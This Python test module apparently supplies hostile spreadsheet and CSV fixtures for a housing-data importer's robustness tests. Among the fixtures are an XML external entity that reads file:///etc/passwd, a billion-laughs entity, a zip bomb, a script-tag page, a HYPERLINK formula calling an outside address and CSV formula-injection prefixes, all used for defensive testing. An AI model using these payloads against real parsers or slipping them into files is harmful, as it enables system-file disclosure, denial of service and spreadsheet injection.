"""P23: spreadsheets and CSV."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl

from tests.importers.hostile.case import Cases

cases = Cases()
UNIT = "building_ref,room\n"


def csv(folder: Path, content: bytes | str, name: str = "a.csv") -> Path:
    path = folder / name
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def book(folder: Path, *rows: list[object]) -> Path:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    path = folder / "a.xlsx"
    workbook.save(path)
    return path


def edited(path: Path, change: Callable[[bytes], bytes], part: str = "xl/worksheets/sheet1.xml") -> Path:  # fmt: skip
    """The workbook with one of its parts changed."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[part] = change(parts[part])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def units(folder: Path) -> Path:
    return book(folder, ["building_ref", "room"], ["B1", "0301"], ["B1", "0302"])


@cases.add("file_empty", kind="units")
def csv_empty(folder: Path) -> Path:
    return csv(folder, b"")


@cases.add("header_missing", kind="units")
def csv_of_blanks(folder: Path) -> Path:
    return csv(folder, " \n \n")


@cases.add("header_twice", kind="units")
def csv_with_a_column_twice(folder: Path) -> Path:
    return csv(folder, "room,room\n1,2\n")


@cases.add("columns_too_many", kind="units")
def csv_with_100_000_columns(folder: Path) -> Path:
    return csv(folder, ",".join(f"c{i}" for i in range(100_000)) + "\n")


@cases.add("delimiter_unknown", kind="units")
def csv_with_semicolons(folder: Path) -> Path:
    return csv(folder, "building_ref;room\nB1;1\n")


@cases.add("text_binary", kind="units")
def csv_with_nul_bytes(folder: Path) -> Path:
    return csv(folder, UNIT.encode() + b"B1,\x00\x00\n")


@cases.add("text_binary", kind="units")
def csv_in_utf16(folder: Path) -> Path:
    return csv(folder, (UNIT + "B1,1\n").encode("utf-16"))


@cases.add("encoding_unknown", kind="units")
def csv_in_no_encoding(folder: Path) -> Path:
    return csv(folder, UNIT.encode() + b"B1,\xff\xff\xff\n")


@cases.add("quote_open", kind="units")
def csv_with_an_open_quote(folder: Path) -> Path:
    return csv(folder, UNIT + 'B1,"1\n' + "B1,2\n" * 50)


@cases.add("quote_open", kind="units")
def csv_with_a_stray_quote(folder: Path) -> Path:
    return csv(folder, UNIT + 'B1,"1"2\n')


@cases.add("cell_too_long", kind="units")
def csv_with_a_gigabyte_in_one_cell(folder: Path) -> Path:
    path = folder / "a.csv"
    with path.open("wb") as stream:
        stream.write(UNIT.encode() + b"B1,")
        for _ in range(1024):
            stream.write(b"x" * 2**20)
    return path


@cases.add("cell_too_long", kind="units")
def csv_with_a_huge_quoted_cell(folder: Path) -> Path:
    return csv(folder, UNIT.encode() + b'B1,"' + b"x\n" * (40 * 2**20) + b'"\n')


@cases.add(rows=((3, "", "row_too_long"),), kind="units", accepted=2)
def csv_with_ragged_rows(folder: Path) -> Path:
    return csv(folder, UNIT + "B1,1\nB1,2,3\nB2,2,\n")


@cases.add(rows=((2, "room", "text_control"), (3, "room", "text_too_long")), kind="units")
def csv_with_bells_and_length(folder: Path) -> Path:
    return csv(folder, UNIT + f"B1,a\x07b\nB1,{'9' * 300}\n")


@cases.add(kind="units", accepted=2)
def csv_in_gb18030(folder: Path) -> Path:
    return csv(folder, "building_ref,房号,单元\nB1,0301,2单元\nB1,㐂,甲单元\n".encode("gb18030"))


@cases.add(rows=((2, "id_number", "number_damaged"),), kind="residents")
def csv_that_went_through_excel(folder: Path) -> Path:
    return csv(folder, "name,category,id_number,building_ref\n甲,户籍,3.50203E+17,B1\n")


@cases.add("content_differs", kind="units")
def xlsx_that_is_text(folder: Path) -> Path:
    return csv(folder, UNIT, "a.xlsx")


@cases.add("content_differs", kind="units")
def csv_that_is_a_workbook(folder: Path) -> Path:
    return units(folder).rename(folder / "a.csv")


@cases.add("content_differs", kind="units")
def csv_that_is_a_page(folder: Path) -> Path:
    return csv(folder, "<html><script>alert(1)</script></html>")


@cases.add("workbook_sealed", kind="units")
def xlsx_with_a_password(folder: Path) -> Path:
    return csv(folder, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "a.xlsx")


@cases.add("xml_entities", kind="units")
def xlsx_with_a_billion_laughs(folder: Path) -> Path:
    head = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    return edited(units(folder), lambda xml: head + xml.partition(b"?>")[2])


@cases.add("xml_entities", kind="units")
def xlsx_with_an_outside_entity(folder: Path) -> Path:
    head = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return edited(units(folder), lambda xml: head + xml, "xl/workbook.xml")


@cases.add("archive_bomb", kind="units")
def xlsx_that_is_a_bomb(folder: Path) -> Path:
    return edited(units(folder), lambda xml: xml + b" " * (200 * 2**20))


@cases.add("sheet_too_large", kind="units")
def xlsx_with_a_cell_far_out(folder: Path) -> Path:
    path = units(folder)
    workbook = openpyxl.load_workbook(path)
    workbook.active["XFD1048576"] = "x"
    workbook.save(path)
    return path


@cases.add("file_unreadable", kind="units")
def xlsx_cut_off(folder: Path) -> Path:
    path = units(folder)
    path.write_bytes(path.read_bytes()[:-200])
    return path


@cases.add("file_unreadable", kind="units")
def xlsx_with_broken_xml(folder: Path) -> Path:
    return edited(units(folder), lambda xml: xml.replace(b"</sheetData>", b"<<"))


@cases.add("header_merged", kind="units")
def xlsx_with_a_title(folder: Path) -> Path:
    """The row below holds a number: nothing says which row names the columns."""
    return book(folder, ["房屋清单"], ["B1", 1], ["B1", 2])


@cases.add("header_merged", kind="units")
def xlsx_with_a_merged_header(folder: Path) -> Path:
    path = book(folder, ["building_ref", None, "room"], ["B1", "x", "1"])
    workbook = openpyxl.load_workbook(path)
    workbook.active.merge_cells("A1:B1")
    workbook.save(path)
    return path


@cases.add("file_empty", kind="units")
def xlsx_with_an_empty_sheet(folder: Path) -> Path:
    return book(folder)


@cases.add(rows=((2, "id_number", "number_damaged"),), kind="residents", accepted=1)
def xlsx_with_an_id_as_a_number(folder: Path) -> Path:
    return book(
        folder,
        ["name", "category", "id_number", "building_ref"],
        ["甲", "户籍", 990101199003070012, "B1"],
        ["乙", "户籍", None, "B1"],
    )


@cases.add(rows=((3, "room", "cell_error"),), kind="units", accepted=1)
def xlsx_with_an_error_in_a_cell(folder: Path) -> Path:
    return book(folder, ["building_ref", "room"], ["B1", "1"], ["B1", "#REF!"])


@cases.add(rows=((2, "room", "required"),), kind="units", accepted=1)
def xlsx_with_a_formula_never_computed(folder: Path) -> Path:
    return book(folder, ["building_ref", "room"], ["B1", '=HYPERLINK("http://x/"&A2)'], ["B1", "2"])


@cases.add(kind="units", accepted=6)
def csv_that_begins_with_formula_signs(folder: Path) -> Path:
    """Taken as the text it is; what is exported is another matter."""
    rooms = ["=1+1", "+1", "-1", "@x", "＝1", "\t=2"]
    return csv(folder, UNIT + "".join(f"B1,{room}\n" for room in rooms))
